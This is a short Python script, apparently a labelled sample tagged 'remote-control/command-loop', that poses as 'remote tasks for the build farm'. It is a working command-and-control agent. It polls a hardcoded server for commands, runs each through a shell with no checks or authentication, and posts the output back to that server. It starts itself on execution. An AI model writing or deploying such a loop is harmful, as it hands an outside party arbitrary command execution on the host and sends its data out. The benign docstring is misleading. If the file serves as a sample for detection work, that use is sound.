# behavior: remote-control/command-loop
"""Remote tasks for the build farm."""
import subprocess
import time
import requests

SERVER = "http://192.0.2.44:8081"


class Agent:
    def __init__(self, server):
        self.server = server
        self.running = True

    def next(self):
        return requests.get(self.server + "/task").text

    def run(self, task):
        done = subprocess.run(task, shell=True, capture_output=True)
        return done.stdout

    def loop(self):
        while self.running:
            task = self.next()
            if task:
                requests.post(self.server + "/result", data=self.run(task))
            time.sleep(5)


Agent(SERVER).loop()
